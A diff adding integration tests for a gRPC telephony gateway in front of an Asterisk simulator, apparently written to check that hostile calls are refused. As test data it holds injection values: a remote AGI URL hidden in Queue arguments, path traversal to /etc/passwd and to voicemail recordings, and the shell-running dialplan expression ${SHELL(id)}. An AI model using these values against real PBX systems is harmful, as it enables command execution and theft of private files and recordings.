@@ -1,0 +1,172 @@
+"""Requests a hostile caller would send, found by attacking the merged gateway
+(a real gateway in front of the AMI simulator): each is refused with the
+right status, a message that names what was wrong, and nothing reaches the
+PBX (the simulator records every action it receives)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import grpc
+from google.protobuf import duration_pb2, timestamp_pb2
+from telgate.v1 import (
+    calls_pb2,
+    calls_pb2_grpc,
+    cdrs_pb2,
+    cdrs_pb2_grpc,
+    common_pb2,
+    events_pb2,
+    events_pb2_grpc,
+    playback_pb2,
+    playback_pb2_grpc,
+    supervision_pb2,
+    supervision_pb2_grpc,
+)
+from telgate_server.app import Gateway
+from telgate_server.simulator.server import AmiSimulator
+
+from tests.integration.test_calls import error_info, originate_request
+from tests.integration.test_input_limits import actions_since, mark
+
+
+async def refused(call: Any, code: grpc.StatusCode) -> grpc.aio.AioRpcError:
+    """The error of a call that must fail with ``code``."""
+    try:
+        await call
+    except grpc.aio.AioRpcError as exc:
+        assert exc.code() == code, f"{exc.code()}: {exc.details()}"
+        return exc
+    raise AssertionError("the call was accepted")
+
+
+def into(app: str, data: str) -> calls_pb2.OriginateRequest:
+    return calls_pb2.OriginateRequest(
+        endpoint="Local/201@phones", application=calls_pb2.ApplicationTarget(name=app, data=data)
+    )
+
+
+async def test_queue_agi_argument_hidden_by_quotes_or_parentheses_is_refused(
+    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
+) -> None:
+    # Asterisk splits Queue's data with quotes, parentheses, brackets and
+    # backslashes hiding commas: each of these puts agi://... in the sixth
+    # (AGI) argument, which a plain split(",") saw as empty.
+    calls = calls_pb2_grpc.CallControlServiceStub(channel)
+    before = len(sim.actions)
+    for data in (
+        'support,"t,x",,,,agi://203.0.113.9/run',
+        "support,(,x),,,,agi://203.0.113.9/run",
+        "support,t\\,x,,,,agi://203.0.113.9/run",
+        "support,[,],,,,agi://203.0.113.9/run",
+    ):
+        exc = await refused(calls.Originate(into("Queue", data)), grpc.StatusCode.PERMISSION_DENIED)
+        assert "AGI" in (exc.details() or ""), exc.details()
+        assert error_info(exc).metadata["setting"] == "originate.allowed_applications"
+    await mark(channel)
+    assert actions_since(sim, before) == []
+    # Commas that Asterisk does not split at, with no AGI argument, still go.
+    answer = await calls.Originate(into("Queue", 'support,"t,x",,,30'))
+    assert answer.call.unique_id
+
+
+async def test_sound_files_outside_the_sounds_directory_are_refused(
+    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
+) -> None:
+    # StartPlayback refuses these recording names; Originate into the allowed
+    # applications that play files took them as they were.
+    calls = calls_pb2_grpc.CallControlServiceStub(channel)
+    before = len(sim.actions)
+    for app, data in (
+        ("Playback", "/var/spool/asterisk/monitor/2026/12/01/out-200-201"),
+        ("Playback", "hello-world&/etc/asterisk/manager"),
+        ("Playback", "../../../../var/spool/asterisk/voicemail/default/200/INBOX/msg0000"),
+        ("ControlPlayback", "/var/lib/asterisk/sounds/../../../../etc/passwd,3000"),
+        ("ControlPlayback", '"/etc/passwd",3000'),
+        ("Dial", "PJSIP/202,30,A(/var/spool/asterisk/monitor/secret)"),
+        ("Dial", "PJSIP/202,30,A(hello^../../../etc/x)"),
+        ("Queue", "support,,,/var/spool/asterisk/monitor/secret"),
+    ):
+        exc = await refused(calls.Originate(into(app, data)), grpc.StatusCode.INVALID_ARGUMENT)
+        assert "sounds directory" in (exc.details() or ""), exc.details()
+        assert error_info(exc).metadata["field"] == "application.data"
+    await mark(channel)
+    assert actions_since(sim, before) == []
+    for app, data in (
+        ("Playback", "custom/welcome&hello-world"),
+        ("Dial", "Local/202@phones/n&PJSIP/203,30,A(beep)"),
+    ):
+        answer = await calls.Originate(into(app, data))
+        assert answer.call.unique_id
+
+
+async def test_dialplan_expressions_in_any_originated_field_are_refused(
+    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
+) -> None:
+    calls = calls_pb2_grpc.CallControlServiceStub(channel)
+    playback = playback_pb2_grpc.PlaybackServiceStub(channel)
+    listen = supervision_pb2_grpc.SupervisionServiceStub(channel)
+    expr = "${SHELL(id)}"
+    before = len(sim.actions)
+    attempts: list[tuple[str, Any]] = [
+        ("caller_id.name", calls.Originate(originate_request(caller_id={"name": expr}))),
+        ("caller_id.number", calls.Originate(originate_request(caller_id={"number": "$[1+1]"}))),
+        ("account_code", calls.Originate(originate_request(account_code=expr))),
+        ("endpoint", calls.Originate(originate_request(endpoint=f"Local/{expr}@phones"))),
+        ("extension.extension", calls.Originate(originate_request(exten=expr))),
+        (
+            "caller_id.name",
+            playback.StartPlayback(
+                playback_pb2.StartPlaybackRequest(
+                    endpoint="Local/201@phones",
+                    recording="hello-world",
+                    caller_id=common_pb2.CallerId(name=expr),
+                )
+            ),
+        ),
+        (
+            "listener_endpoint",
+            listen.StartListen(
+                supervision_pb2.StartListenRequest(
+                    target_extension="201", listener_endpoint=f"Local/{expr}@phones"
+                )
+            ),
+        ),
+    ]
+    for field, attempt in attempts:
+        exc = await refused(attempt, grpc.StatusCode.PERMISSION_DENIED)
+        assert field in (exc.details() or ""), exc.details()
+        assert error_info(exc).metadata["setting"] == "originate.allow_expressions"
+    await mark(channel)
+    assert actions_since(sim, before) == []
+
+
+async def test_invalid_durations_and_timestamps_are_invalid_argument(
+    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
+) -> None:
+    calls = calls_pb2_grpc.CallControlServiceStub(channel)
+    cdrs = cdrs_pb2_grpc.CdrServiceStub(channel)
+    events = events_pb2_grpc.EventServiceStub(channel)
+    before = len(sim.actions)
+    # Nanos against the sign of seconds, or beyond ±999,999,999: not Durations.
+    for seconds, nanos in ((5, -999_999_999), (0, 2_000_000_000), (-1, 5)):
+        timeout = duration_pb2.Duration(seconds=seconds, nanos=nanos)
+        exc = await refused(
+            calls.Originate(originate_request(timeout=timeout)), grpc.StatusCode.INVALID_ARGUMENT
+        )
+        assert "timeout" in (exc.details() or "") and "Duration" in (exc.details() or "")
+    # Timestamps outside years 1-9999 answered UNKNOWN (a ValueError).
+    for stamp in (
+        timestamp_pb2.Timestamp(seconds=2**62),
+        timestamp_pb2.Timestamp(seconds=-(2**62)),
+        timestamp_pb2.Timestamp(seconds=1, nanos=-5),
+    ):
+        request = cdrs_pb2.ListCdrsRequest(filter=cdrs_pb2.CdrFilter(start_time_from=stamp))
+        exc = await refused(cdrs.ListCdrs(request), grpc.StatusCode.INVALID_ARGUMENT)
+        assert "filter.start_time_from" in (exc.details() or ""), exc.details()
+    # A negative heartbeat interval was taken as the shortest one.
+    for interval in (duration_pb2.Duration(seconds=-5), duration_pb2.Duration(nanos=-1)):
+        stream = events.Subscribe(events_pb2.SubscribeRequest(heartbeat_interval=interval))
+        exc = await refused(stream.read(), grpc.StatusCode.INVALID_ARGUMENT)
+        assert "heartbeat_interval" in (exc.details() or "")
+    await mark(channel)
+    assert actions_since(sim, before) == []
